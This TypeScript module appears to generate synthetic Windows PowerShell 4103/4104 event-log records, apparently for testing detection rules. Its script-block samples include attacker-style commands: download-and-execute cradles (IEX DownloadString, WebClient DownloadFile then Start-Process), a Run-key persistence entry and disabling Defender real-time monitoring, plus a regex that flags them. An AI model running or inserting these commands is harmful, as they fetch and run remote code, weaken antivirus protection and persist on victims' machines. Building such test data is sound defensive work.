/**
 * PowerShell Operational templates: 4103 module logging (ContextInfo, UserData, Payload) and 4104 script block
 * logging (ScriptBlockText, ScriptBlockId, Path). They serve windows/ps_module and windows/ps_script via the
 * powershell service (channel `Microsoft-Windows-PowerShell/Operational`). 4104 Path is empty for interactive
 * script blocks and 4103 UserData is empty, as PowerShell writes them.
 */
import type { Faker } from '@faker-js/faker';
import { pick } from './faker-source.js';
import { url } from './network-values.js';
import { defineTemplate, type FlatEvent, type Template } from './types.js';
import { qualified, winHost, type WinHost } from './windows-host.js';
import { POWERSHELL, systemFields, type RecordSpec } from './windows-system.js';
import { fileName, userFile, userHome } from './windows-values.js';

interface Invocation {
  readonly command: string;
  readonly parameter: string;
  readonly value: string;
}

function invocation(f: Faker, home: string): Invocation {
  return pick(f, [
    { command: 'Get-Process', parameter: 'Name', value: pick(f, ['lsass', 'explorer', 'svchost', 'chrome']) },
    { command: 'Get-ChildItem', parameter: 'Path', value: `${home}\\${pick(f, ['Documents', 'Desktop', 'Downloads'])}` },
    { command: 'Invoke-WebRequest', parameter: 'Uri', value: url(f) },
    { command: 'Set-MpPreference', parameter: 'DisableRealtimeMonitoring', value: 'True' },
    { command: 'New-Object', parameter: 'TypeName', value: 'System.Net.WebClient' },
    { command: 'Get-WmiObject', parameter: 'Class', value: pick(f, ['Win32_OperatingSystem', 'Win32_Process', 'Win32_ComputerSystem']) },
  ]);
}

/** A script block as users and attackers write them. */
function scriptBlock(f: Faker, home: string): string {
  const target = `$env:TEMP\\${fileName(f, 'exe')}`;
  return pick(f, [
    () => `Get-ChildItem -Path "${home}\\Documents" -Recurse -Filter *.${pick(f, ['docx', 'xlsx', 'pdf'])} | Select-Object FullName, Length`,
    () => `$wc = New-Object System.Net.WebClient\r\n$wc.DownloadFile('${url(f)}', "${target}")\r\nStart-Process "${target}"`,
    () => `IEX (New-Object Net.WebClient).DownloadString('${url(f)}')`,
    () => `function Get-${f.word.noun()}Info {\r\n    param([string]$ComputerName = $env:COMPUTERNAME)\r\n    Get-CimInstance -ClassName Win32_OperatingSystem -ComputerName $ComputerName\r\n}`,
    () => `[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('${Buffer.from(f.lorem.sentence()).toString('base64')}'))`,
    () => `Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name '${f.word.noun()}' -Value '${userFile(f, home, 'exe')}'`,
    () => 'prompt',
  ])();
}

function record(f: Faker, host: WinHost, spec: Omit<RecordSpec, 'version' | 'keywords' | 'activity' | 'userId'>): FlatEvent {
  return systemFields(f, host, POWERSHELL, { ...spec, version: 1, keywords: '0x0', activity: true, userId: host.user.sid });
}

function contextInfo(f: Faker, host: WinHost, command: string): string {
  const lines = [
    `Severity = ${pick(f, ['Informational', 'Warning'])}`,
    'Host Name = ConsoleHost',
    'Host Version = 5.1.19041.4648',
    `Host ID = ${f.string.uuid()}`,
    'Host Application = C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'Engine Version = 5.1.19041.4648',
    `Runspace ID = ${f.string.uuid()}`,
    `Pipeline ID = ${f.number.int({ min: 1, max: 200 })}`,
    `Command Name = ${command}`,
    'Command Type = Cmdlet',
    'Script Name = ',
    'Command Path = ',
    `Sequence Number = ${f.number.int({ min: 10, max: 5000 })}`,
    `User = ${qualified(host.user)}`,
    `Connected User = `,
    'Shell ID = Microsoft.PowerShell',
  ];
  return lines.map((line) => `        ${line}`).join('\r\n');
}

export const powershell4103: Template = defineTemplate({
  name: 'powershell-4103',
  description: 'PowerShell 4103: module logging, pipeline execution details (ContextInfo, Payload)',
  format: 'evtx',
  logsources: [{ product: 'windows', category: 'ps_module', service: 'powershell' }],
  mayBeEmpty: ['UserData'],
  build: (f) => {
    const host = winHost(f);
    const call = invocation(f, userHome(host.user.name));
    return {
      ...record(f, host, { eventId: 4103, level: 4, task: 106, opcode: 20 }),
      ContextInfo: contextInfo(f, host, call.command),
      UserData: '',
      Payload: `CommandInvocation(${call.command}): "${call.command}"\r\nParameterBinding(${call.command}): name="${call.parameter}"; value="${call.value}"`,
    };
  },
});

export const powershell4104: Template = defineTemplate({
  name: 'powershell-4104',
  description: 'PowerShell 4104: script block logging (ScriptBlockText, ScriptBlockId, Path)',
  format: 'evtx',
  logsources: [{ product: 'windows', category: 'ps_script', service: 'powershell' }],
  mayBeEmpty: ['Path'],
  build: (f) => {
    const host = winHost(f);
    const home = userHome(host.user.name);
    const text = scriptBlock(f, home);
    const suspicious = /IEX|DownloadFile|FromBase64String|CurrentVersion\\Run/.test(text);
    return {
      ...record(f, host, { eventId: 4104, level: suspicious ? 3 : 5, task: 2, opcode: 15 }),
      MessageNumber: 1,
      MessageTotal: 1,
      ScriptBlockText: text,
      ScriptBlockId: f.string.uuid(),
      Path: f.datatype.boolean() ? userFile(f, home, 'ps1') : '',
    };
  },
});
